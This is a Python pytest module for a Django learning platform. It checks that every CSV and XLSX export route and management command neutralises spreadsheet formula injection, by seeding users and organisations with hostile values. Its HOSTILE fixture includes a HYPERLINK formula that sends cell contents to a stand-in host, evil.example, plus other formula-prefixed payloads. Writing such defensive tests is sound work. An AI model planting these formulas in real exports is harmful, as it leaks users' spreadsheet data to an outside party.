"""No export lets a spreadsheet read a typed text as a formula (``lms.exports``).

The second half finds every export by itself: every URL pattern whose route or name speaks of
an export, CSV or XLSX, and every management command of the project whose help speaks of CSV
or XLSX. Each is produced from the authorisation test's world, with hostile names, e-mail
addresses and organisations in it, as a role the authorisation table lets in; a new export is
covered without editing this file.
"""

import csv
import datetime as dt
import io
import re
import shutil
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.apps import apps
from django.conf import settings
from django.core.management import call_command, get_commands, load_command_class
from django.db import transaction
from django.test import override_settings
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook

from courses.exports import export_file_write
from courses.models import ExportFile
from lms import exports
from lms.accounts.models import Organisation, User
from register.models import Registration
from tests import authorisation_table as table
from tests.test_authorisation import build_world

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&B2&B3, "Bekijk")'
HOSTILE = (HYPERLINK, "+31 6 1234", "-3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "-1,5")


def _is_formula_like(text: str) -> bool:
    return text[:1] in exports.FORMULA_STARTS or text.lstrip()[:1] in exports.FORMULA_STARTS


# --- The shared function ---------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_evaluate_gets_a_quote(text):
    assert exports.spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["Jamila de Vries", "", "jamila@example.org", "30-11-2026", "12/20", "1.234,5", "a=b", "x-3"],
)
def test_plain_text_is_left_alone(value):
    assert exports.spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", [-3, -1.5, Decimal("-2.50"), 0, 7, None, dt.date(2026, 11, 30)])
def test_numbers_and_dates_stay_what_they_are(value):
    assert exports.spreadsheet_safe(value) is value


def test_csv_keeps_numbers_as_numbers_and_quotes_typed_text():
    content = exports.table_csv(["naam", "saldo", "opmerking"], [[HYPERLINK, -3, "-3"]])
    header, row = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert header == ["naam", "saldo", "opmerking"]
    assert row == ["'" + HYPERLINK, "-3", "'-3"]


def test_a_separator_inside_a_value_cannot_start_a_new_cell():
    content = exports.table_csv(["naam"], [["Jan;=1+1"], ["Piet,=1+1"]], delimiter=";")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["naam"], ["Jan;=1+1"], ["Piet,=1+1"]]


def test_the_dict_writer_neutralises_every_field():
    out = io.StringIO()
    writer = exports.csv_dict_writer(out, fieldnames=["person", "hours"])
    writer.writeheader()
    writer.writerows([{"person": "=1+1@example.org", "hours": "12.50"}])
    assert out.getvalue().splitlines() == ["person,hours", "'=1+1@example.org,12.50"]


def test_xlsx_writes_text_as_text_and_numbers_as_numbers():
    content = exports.table_xlsx(
        ["naam", "saldo", "opmerking"], [[HYPERLINK, -3, "-3"]], title="Uitvoering U1/2026"
    )
    sheet = load_workbook(io.BytesIO(content)).active
    name, number, typed = (sheet.cell(row=2, column=c) for c in (1, 2, 3))
    assert (name.value, name.data_type) == (HYPERLINK, "s")
    assert (number.value, number.data_type) == (-3, "n")
    assert (typed.value, typed.data_type) == ("-3", "s")
    assert sheet.title == "Uitvoering U1-2026"
    assert sheet.freeze_panes == "A2"


# --- Every export of the platform ------------------------------------------------------------

_SPREADSHEET_WORDS = re.compile(r"export|\.csv|\.xlsx|<str:fmt>", re.IGNORECASE)


def export_routes() -> list[str]:
    """The full route of every URL pattern whose route or name speaks of an export."""

    def walk(patterns, prefix=""):
        for entry in patterns:
            route = prefix + str(entry.pattern).removeprefix("^") if prefix else str(entry.pattern)
            if isinstance(entry, URLResolver):
                yield from walk(entry.url_patterns, route)
            elif isinstance(entry, URLPattern) and _SPREADSHEET_WORDS.search(
                f"{route} {entry.name or ''}"
            ):
                yield route

    return sorted(set(walk(get_resolver().url_patterns)))


def _project_apps() -> set[str]:
    base = Path(settings.BASE_DIR).resolve()
    return {
        config.name
        for config in apps.get_app_configs()
        if base in Path(config.path).resolve().parents and ".venv" not in config.path
    }


def spreadsheet_commands() -> list[tuple[str, object]]:
    """Management commands of the project's own apps whose help speaks of CSV or XLSX."""
    found = []
    for name, app in sorted(get_commands().items()):
        if app not in _project_apps():
            continue
        command = load_command_class(app, name)
        parser = command.create_parser("manage.py", name)
        text = " ".join([command.help or "", *(a.help or "" for a in parser._actions)])
        if re.search(r"\b(csv|xlsx)\b", text, re.IGNORECASE):
            found.append((name, command))
    return found


def _arguments(name, command, folder: Path) -> list[str]:
    """Values for the command's required arguments: an output file, a date."""
    parser = command.create_parser("manage.py", name)
    kind = "xlsx" if "xlsx" in (command.help or "").lower() else "csv"
    args = []
    for action in parser._actions:
        if not action.required:
            continue
        flag = action.option_strings[0] if action.option_strings else None
        if action.dest in {"out", "output", "file", "path"}:
            value = str(folder / f"{name}.{kind}")
        elif action.dest in {"on", "date", "day"}:
            value = timezone.localdate().isoformat()
        else:
            pytest.fail(f"{name}: teach this test a value for the required argument {action.dest}")
        args += [flag, value] if flag else [value]
    return args


def _cells(content: bytes) -> list[tuple[object, str]]:
    """Every cell of a CSV or XLSX file as (value, openpyxl data type; "s" for CSV)."""
    if zipfile.is_zipfile(io.BytesIO(content)):
        workbook = load_workbook(io.BytesIO(content))
        return [
            (cell.value, cell.data_type)
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
    text = content.decode("utf-8-sig")
    delimiter = (
        ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
    )
    return [
        (field, "s") for row in csv.reader(io.StringIO(text), delimiter=delimiter) for field in row
    ]


def _unsafe(content: bytes) -> tuple[list, int]:
    """The cells a spreadsheet would evaluate, and how many hostile texts were made safe."""
    unsafe, neutralised = [], 0
    for value, data_type in _cells(content):
        if data_type == "f":
            unsafe.append(value)
        elif isinstance(value, str) and value.startswith(exports.NEUTRALISER):
            neutralised += _is_formula_like(value[1:])
        elif isinstance(value, str) and _is_formula_like(value):
            if data_type == "s" and zipfile.is_zipfile(io.BytesIO(content)):
                neutralised += 1  # a string cell in XLSX is never evaluated
            else:
                unsafe.append(value)
    return unsafe, neutralised


def _make_hostile(w) -> None:
    """Everyone's name, e-mail address and organisation start with a formula."""
    for i, user in enumerate(User.objects.order_by("pk")):
        payload = HOSTILE[i % len(HOSTILE)]
        User.objects.filter(pk=user.pk).update(
            first_name=payload, last_name=payload, email=f"{'=+-@'[i % 4]}{user.email}"
        )
    for i, organisation in enumerate(Organisation.objects.order_by("pk")):
        Organisation.objects.filter(pk=organisation.pk).update(
            name=f"{HOSTILE[i % len(HOSTILE)]} {organisation.pk}"
        )
    # The office's report of registrations that end soon names the junior's registration.
    Registration.objects.filter(pk=w.registration_own.pk).update(
        valid_until=timezone.localdate() + dt.timedelta(days=60)
    )
    # Stored exports are written again by the platform itself, from the hostile data, in every
    # format it offers.
    formats = sorted(exports.CONTENT_TYPES)
    for i, export in enumerate(ExportFile.objects.order_by("pk")):
        export.format = formats[i % len(formats)]
        export.status = ExportFile.Status.PENDING
        export.save(update_fields=["format", "status"])
        export_file_write(export_id=export.pk)
        export.refresh_from_db()
        w.files.append(export.file)


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker, tmp_path_factory):
    media = tmp_path_factory.mktemp("media")
    with (
        override_settings(MEDIA_ROOT=media, LMS_MFA_REQUIRED=True),
        django_db_blocker.unblock(),
    ):
        atomic = transaction.atomic()
        atomic.__enter__()
        files = []
        try:
            w = build_world(files)
            _make_hostile(w)
            yield w
        finally:
            transaction.set_rollback(True)
            atomic.__exit__(None, None, None)
            for stored in files:
                stored.storage.delete(stored.name)
    shutil.rmtree(media, ignore_errors=True)


@pytest.fixture(autouse=True)
def _media_in_tmp():
    """The module's media folder lives as long as its data (see ``world``)."""


def _urls(row, w) -> list[str]:
    url = row.url(w)
    if "<str:fmt>" not in row.route:
        return [url]
    return [re.sub(r"\.\w+$", f".{fmt}", url) for fmt in sorted(exports.CONTENT_TYPES)]


def _is_spreadsheet(response) -> bool:
    kind = response.get("Content-Type", "").split(";")[0]
    disposition = response.get("Content-Disposition", "")
    return kind in {t.split(";")[0] for t in exports.CONTENT_TYPES.values()} or bool(
        re.search(r"\.(csv|xlsx)\"?$", disposition)
    )


def test_the_walk_finds_the_known_exports():
    routes = export_routes()
    assert "leren/aanbieder/uitvoeringen/<int:pk>/export.<str:fmt>" in routes
    assert "coaching/registerbureau/export.csv" in routes
    assert {"export_ledger", "eligibility_report"} <= {name for name, _c in spreadsheet_commands()}


def test_no_export_url_serves_a_formula(world, db, client):
    problems, served = [], {}
    rows = {route: [r for r in table.ROWS if r.route == route] for route in export_routes()}
    for route, declared in rows.items():
        assert declared, f"{route} has no row in tests/authorisation_table.py"
        for row in declared:
            for role in (role for role, status in row.get.items() if status == table.OK):
                client.logout()
                if role != "anonymous":
                    client.force_login(getattr(world, role))
                for url in _urls(row, world):
                    response = client.get(url)
                    if response.status_code != 200 or not _is_spreadsheet(response):
                        continue
                    content = (
                        b"".join(response.streaming_content)
                        if response.streaming
                        else (response.content)
                    )
                    unsafe, neutralised = _unsafe(content)
                    served[url] = neutralised
                    if unsafe:
                        problems.append(f"{url} as {role}: {unsafe[:3]}")
    assert not problems, "exports with live formulas:\n" + "\n".join(problems)
    assert served, "no export was served"
    empty = [url for url, neutralised in served.items() if not neutralised]
    assert not empty, f"exports without the hostile data, so nothing was tested: {empty}"
    for route in rows:
        if re.search(r"\.(csv|xlsx)$", route):
            assert any(
                re.fullmatch(re.sub(r"<[^>]+>", r"[^/]+", route), url.lstrip("/")) for url in served
            ), f"{route} served no spreadsheet to any role"


@pytest.mark.parametrize("name", [name for name, _command in spreadsheet_commands()])
def test_no_export_command_writes_a_formula(world, db, tmp_path, name):
    command = dict(spreadsheet_commands())[name]
    call_command(name, *_arguments(name, command, tmp_path), stdout=io.StringIO())
    written = [p for p in tmp_path.iterdir() if p.suffix in {".csv", ".xlsx"}]
    assert written, f"{name} wrote no spreadsheet"
    for path in written:
        unsafe, neutralised = _unsafe(path.read_bytes())
        assert not unsafe, f"{name} wrote live formulas: {unsafe[:3]}"
        assert neutralised, f"{name} wrote none of the hostile data, so nothing was tested"
